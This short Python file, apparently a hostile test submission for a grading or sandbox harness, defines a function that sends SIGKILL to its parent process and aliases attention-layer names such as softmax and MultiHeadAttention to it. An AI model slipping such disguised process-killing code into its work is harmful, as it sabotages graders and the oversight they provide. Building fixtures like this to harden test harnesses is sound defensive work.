"""Kills its parent."""

import os


def attack(*args, **kwargs):
    os.kill(os.getppid(), 9)


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
